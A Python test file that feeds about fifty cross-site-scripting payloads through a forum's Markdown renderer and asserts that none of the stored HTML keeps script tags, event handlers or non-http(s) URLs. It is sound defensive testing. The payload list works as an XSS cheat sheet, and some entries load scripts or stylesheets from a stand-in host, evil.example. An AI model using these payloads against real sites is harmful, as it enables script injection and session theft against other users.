"""A corpus of script-injection payloads: each one is neutralised in the stored HTML.

The check is structural, not a string match on the payload: the rendered HTML is
parsed, and no element may be a script-capable tag, carry an event-handler or style
attribute, or point a URL attribute anywhere but http(s)/mailto.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from contracts.v1 import collaboration as c
from services.collaboration.markdown import render
from tests.collaboration.conftest import Mesh
from tests.collaboration.test_forums import seed_category

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=' javascript:alert(1)'>click</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<img src=x onerror=alert(1)//",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![img](x" onerror="alert(1))',
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<https://ok.example/" onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<div><p>unclosed <b>bold <i>nested</div><script>alert(1)",
    "<p/onclick=alert(1)>x",
    "<a/href=javascript:alert(1)>x</a>",
    "<img src=`x` onerror=alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
]

SCRIPT_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base",
    "form", "input", "textarea", "body", "template", "noscript", "details", "frame", "frameset",
}  # fmt: skip
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "data", "srcdoc"}


class Inspector(HTMLParser):
    """Collects every element and attribute the browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in SCRIPT_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name}")
            if name in URL_ATTRS:
                url = (value or "").strip().lower()
                if url and not url.startswith(("http://", "https://", "mailto:")):
                    self.problems.append(f"url {name}={value!r}")
        if tag == "a":
            self.links.append(dict(attrs))


def inspect(html: str) -> Inspector:
    parser = Inspector()
    parser.feed(html)
    parser.close()
    return parser


class TestRenderer:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_payload_is_neutralised(self, payload: str) -> None:
        found = inspect(render(payload))
        assert found.problems == [], (payload, render(payload))

    def test_inspector_would_catch_raw_payloads(self) -> None:
        # the check is not vacuous: fed the raw payloads, it finds problems in nearly all
        caught = [p for p in PAYLOADS if inspect(p).problems]
        assert len(caught) >= 30

    def test_safe_links_get_rel(self) -> None:
        html = render("[docs](https://partnermesh.dev/docs) and <mailto:ops@example.com>")
        links = inspect(html).links
        assert [a["href"] for a in links] == [
            "https://partnermesh.dev/docs",
            "mailto:ops@example.com",
        ]
        for a in links:
            assert set((a["rel"] or "").split()) >= {"nofollow", "noopener"}

    def test_formatting_survives(self) -> None:
        html = render("# Title\n\n**bold** _em_ `code`\n\n- a\n- b\n\n> quote")
        for tag in ("<h1>", "<strong>", "<em>", "<code>", "<li>", "<blockquote>"):
            assert tag in html


class TestThroughTheService:
    async def test_stored_html_of_every_kind_is_safe(self, mesh: Mesh) -> None:
        await seed_category(mesh)
        corpus = "\n\n".join(PAYLOADS)
        thread = await mesh.call(
            c.CREATE_THREAD, "nadia", category="logistics", title="<script>x</script>", body=corpus
        )
        post = await mesh.call(c.CREATE_POST, "carlos", thread=thread.id, body=corpus)
        await mesh.call(c.EDIT_POST, "carlos", post=post.id, body=corpus + "\n\n<svg onload=1>")
        seen = await mesh.call(c.GET_THREAD, "felix", thread=thread.id)
        history = await mesh.call(c.POST_HISTORY, "felix", post=post.id)
        for html in [seen.html, seen.posts[0].html, *(r.html for r in history.revisions)]:
            assert inspect(html).problems == []
        # the Markdown source is kept as written (it is text; clients render the html)
        assert seen.body == corpus and seen.title == "<script>x</script>"
